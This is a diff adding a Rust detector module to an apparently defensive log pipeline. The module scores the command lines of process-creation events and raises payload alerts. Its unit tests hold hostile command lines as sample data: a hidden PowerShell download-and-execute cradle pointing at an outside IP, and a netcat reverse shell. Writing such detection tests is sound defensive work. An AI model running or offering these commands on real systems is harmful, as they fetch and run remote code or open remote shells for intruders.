@@ -1,0 +1,341 @@
+//! Payload analysis as a pipeline detector: the command line of every process-creation
+//! event (Sysmon event 1, Security 4688, ECS `process.command_line` of a process start) is
+//! decoded and scored statically; a verdict at the pipeline's alert level becomes a
+//! `payload` alert about the event, and the rule alerts the same event raised carry the
+//! verdict as an anomaly. Command lines repeat (services, scheduled jobs), so verdicts are
+//! kept per distinct command line in a bounded cache.
+
+use std::collections::HashMap;
+use std::sync::Arc;
+
+use warden_event::winlog::WinDoc;
+use warden_event::{
+    Anomaly, AnomalyType, DetectorKind, EventRef, Input, Record, ThreatLevel, Timestamp,
+};
+use warden_payload::alert::{Origin, to_alert};
+use warden_payload::{Analyzer, Shell, Verdict};
+
+use super::{Cx, Detector, Findings};
+
+/// Distinct command lines whose verdicts are kept.
+const CACHE: usize = 8192;
+/// Longest command line analysed (Windows allows 32,767 characters).
+const MAX_COMMAND: usize = 64 << 10;
+
+/// Where the analyser comes from: fixed, or the service's (which swaps models).
+pub trait AnalyzerSource: Send + Sync {
+    fn analyzer(&self) -> Arc<Analyzer>;
+}
+
+impl AnalyzerSource for Arc<Analyzer> {
+    fn analyzer(&self) -> Arc<Analyzer> {
+        self.clone()
+    }
+}
+
+/// Scores the command lines of process creations.
+pub struct PayloadDetector {
+    source: Arc<dyn AnalyzerSource>,
+    /// The analyser the cache was filled with (a swap empties it).
+    current: Option<Arc<Analyzer>>,
+    cache: HashMap<(String, Option<Shell>), Arc<Verdict>>,
+}
+
+impl std::fmt::Debug for PayloadDetector {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("PayloadDetector")
+            .field("cached", &self.cache.len())
+            .finish()
+    }
+}
+
+/// A process creation: the command line, the shell its image says, who and where.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ProcessStart {
+    pub command: String,
+    pub shell: Option<Shell>,
+    pub user: Option<String>,
+    pub host: Option<String>,
+    pub time: Option<Timestamp>,
+    pub record_id: Option<u64>,
+}
+
+impl PayloadDetector {
+    pub fn new(source: Arc<dyn AnalyzerSource>) -> Self {
+        PayloadDetector {
+            source,
+            current: None,
+            cache: HashMap::new(),
+        }
+    }
+
+    fn verdict(&mut self, p: &ProcessStart) -> Arc<Verdict> {
+        let analyzer = self.source.analyzer();
+        if !self
+            .current
+            .as_ref()
+            .is_some_and(|c| Arc::ptr_eq(c, &analyzer))
+        {
+            self.cache.clear();
+            self.current = Some(analyzer.clone());
+        }
+        let key = (p.command.clone(), p.shell);
+        if let Some(v) = self.cache.get(&key) {
+            return v.clone();
+        }
+        let v = Arc::new(analyzer.analyze(&p.command, p.shell));
+        if self.cache.len() >= CACHE {
+            self.cache.clear();
+        }
+        self.cache.insert(key, v.clone());
+        v
+    }
+}
+
+/// The process creation a log event records, if it records one.
+pub fn process_start(doc: &serde_json::Value) -> Option<ProcessStart> {
+    if let Some(cmd) = doc
+        .get("process")
+        .and_then(|p| p.get("command_line"))
+        .and_then(|c| c.as_str())
+    {
+        let started = doc
+            .get("event")
+            .and_then(|e| e.get("type"))
+            .is_some_and(|t| {
+                t.as_str() == Some("start")
+                    || t.as_array().is_some_and(|a| a.iter().any(|x| x == "start"))
+            });
+        if !started {
+            return None;
+        }
+        let text = |path: &[&str]| {
+            path.iter()
+                .try_fold(doc, |v, k| v.get(*k))
+                .and_then(|v| v.as_str())
+                .map(str::to_string)
+        };
+        return start(
+            cmd,
+            text(&["process", "executable"]).as_deref(),
+            text(&["user", "name"]),
+            text(&["host", "name"]),
+            text(&["@timestamp"]).and_then(|t| Timestamp::parse_rfc3339(&t)),
+            None,
+        );
+    }
+    let w = WinDoc::new(doc);
+    let sysmon = w.channel().contains("Sysmon") || w.provider().contains("Sysmon");
+    match w.event_id()? {
+        1 if sysmon => {}
+        4688 if !sysmon => {}
+        _ => return None,
+    }
+    let cmd = w
+        .data("CommandLine")
+        .or_else(|| w.data("ProcessCommandLine"))?;
+    let image = w.data("Image").or_else(|| w.data("NewProcessName"));
+    let user = w
+        .data("User")
+        .or_else(|| w.data("SubjectUserName"))
+        .filter(|u| !u.is_empty() && u != "-");
+    start(
+        &cmd,
+        image.as_deref(),
+        user,
+        w.computer(),
+        w.time(),
+        w.record_id(),
+    )
+}
+
+fn start(
+    cmd: &str,
+    image: Option<&str>,
+    user: Option<String>,
+    host: Option<String>,
+    time: Option<Timestamp>,
+    record_id: Option<u64>,
+) -> Option<ProcessStart> {
+    if cmd.trim().is_empty() {
+        return None;
+    }
+    let name = image
+        .map(|i| {
+            i.rsplit(['\\', '/'])
+                .next()
+                .unwrap_or(i)
+                .to_ascii_lowercase()
+        })
+        .unwrap_or_default();
+    let shell = match name.as_str() {
+        "powershell.exe" | "pwsh.exe" | "powershell_ise.exe" | "pwsh" => Some(Shell::Powershell),
+        "cmd.exe" => Some(Shell::Cmd),
+        "bash" | "dash" | "sh" | "zsh" => Some(Shell::Bash),
+        _ => None,
+    };
+    Some(ProcessStart {
+        command: warden_payload::cut(cmd, MAX_COMMAND).to_string(),
+        shell,
+        user,
+        host,
+        time,
+        record_id,
+    })
+}
+
+impl Detector for PayloadDetector {
+    fn kind(&self) -> DetectorKind {
+        DetectorKind::Payload
+    }
+
+    fn process(&mut self, input: &Input, cx: &Cx<'_>, out: &mut Findings) {
+        let Record::Log(e) = &input.record else {
+            return;
+        };
+        let Some(p) = process_start(&e.doc) else {
+            return;
+        };
+        let v = self.verdict(&p);
+        if v.level < ThreatLevel::Medium {
+            return;
+        }
+        // The rule alerts of this event say what payload analysis made of its command line.
+        let note = Anomaly {
+            kind: AnomalyType::MaliciousCommand,
+            confidence: (v.score / 100.0).clamp(0.0, 1.0),
+            contribution: 0.0,
+            detail: format!(
+                "payload analysis of the command line: {} ({:.0}/100, {:?})",
+                v.level.as_str(),
+                v.score,
+                v.action
+            ),
+        };
+        for a in out
+            .alerts
+            .iter_mut()
+            .filter(|a| a.detector.kind == DetectorKind::Sigma)
+        {
+            a.anomalies.push(note.clone());
+        }
+        if !cx.alerts_at(v.level) {
+            return;
+        }
+        let time = p
+            .time
+            .or_else(|| e.timestamp_ms.map(Timestamp))
+            .unwrap_or(cx.now);
+        let origin = Origin {
+            tenant: cx.tenant,
+            timestamp: time.to_rfc3339(),
+            user: p.user.as_deref(),
+            host: p.host.as_deref(),
+            job: None,
+            event: p
+                .record_id
+                .or(e.record_id)
+                .map(|record_id| EventRef::Record {
+                    computer: p.host.clone(),
+                    record_id,
+                }),
+        };
+        let mut alert = to_alert(&v, &p.command, &origin);
+        // The same command line at another time or place is another alert.
+        alert.digest = Some(warden_event::content_digest(&[
+            &origin.timestamp,
+            p.host.as_deref().unwrap_or(""),
+            p.user.as_deref().unwrap_or(""),
+        ]));
+        out.alerts.push(alert);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::pipeline::{Pipeline, PipelineOptions};
+    use serde_json::json;
+    use warden_payload::VerdictConfig;
+
+    fn sysmon(cmd: &str, image: &str, record: u64) -> Input {
+        let doc = json!({"Event": {
+            "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
+                       "Computer": "ws-17.corp", "EventRecordID": record,
+                       "TimeCreated": {"#attributes": {"SystemTime": "2026-12-03T10:00:00.000Z"}}},
+            "EventData": {"CommandLine": cmd, "Image": image, "User": "CORP\\alice"}}});
+        Input {
+            record: Record::Log(warden_event::LogEvent {
+                doc,
+                record_id: Some(record),
+                source: None,
+                line: None,
+                timestamp_ms: None,
+            }),
+            size: 100,
+        }
+    }
+
+    fn pipeline() -> Pipeline {
+        let mut p = Pipeline::new("t", PipelineOptions::default());
+        let analyzer: Arc<dyn AnalyzerSource> =
+            Arc::new(Arc::new(Analyzer::new(None, VerdictConfig::default())));
+        p.add(Box::new(PayloadDetector::new(analyzer)));
+        p
+    }
+
+    #[test]
+    fn a_malicious_process_creation_raises_a_payload_alert() {
+        let mut p = pipeline();
+        let now = Timestamp::now();
+        let out = p.process(
+            &[
+                sysmon(
+                    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"",
+                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                    41,
+                ),
+                sysmon("C:\\Windows\\system32\\svchost.exe -k netsvcs -p", "C:\\Windows\\System32\\svchost.exe", 42),
+            ],
+            now,
+        );
+        assert_eq!(out.alerts.len(), 1, "{:?}", out.alerts);
+        let (i, a) = &out.alerts[0];
+        assert_eq!(*i, 0);
+        assert_eq!(a.channel(), "payload");
+        assert_eq!(a.subject, "CORP\\alice");
+        assert_eq!(a.timestamp, "2026-12-03T10:00:00Z");
+        assert!(a.attack.iter().any(|t| t == "T1105"), "{:?}", a.attack);
+        assert!(matches!(
+            a.evidence[0].reference,
+            EventRef::Record { record_id: 41, .. }
+        ));
+    }
+
+    #[test]
+    fn other_events_and_shapes() {
+        // Not a process creation.
+        let doc = json!({"Event": {"System": {"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational"},
+                                   "EventData": {"CommandLine": "nc -e /bin/sh 1.2.3.4 4444"}}});
+        assert!(process_start(&doc).is_none());
+        // Security 4688 and ECS.
+        let doc = json!({"EventID": 4688, "Channel": "Security", "Hostname": "dc1",
+                         "CommandLine": "cmd.exe /c whoami", "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
+                         "SubjectUserName": "bob"});
+        let p = process_start(&doc).unwrap_or_else(|| panic!());
+        assert_eq!(
+            (p.shell, p.user.as_deref(), p.host.as_deref()),
+            (Some(Shell::Cmd), Some("bob"), Some("dc1"))
+        );
+        let doc = json!({"@timestamp": "2026-12-03T10:00:00Z", "event": {"type": ["start"]},
+                         "process": {"command_line": "bash -c 'id'", "executable": "/usr/bin/bash"},
+                         "host": {"name": "web-1"}, "user": {"name": "www-data"}});
+        let p = process_start(&doc).unwrap_or_else(|| panic!());
+        assert_eq!(
+            (p.shell, p.host.as_deref()),
+            (Some(Shell::Bash), Some("web-1"))
+        );
+        let doc = json!({"event": {"type": ["end"]}, "process": {"command_line": "x"}});
+        assert!(process_start(&doc).is_none());
+    }
+}
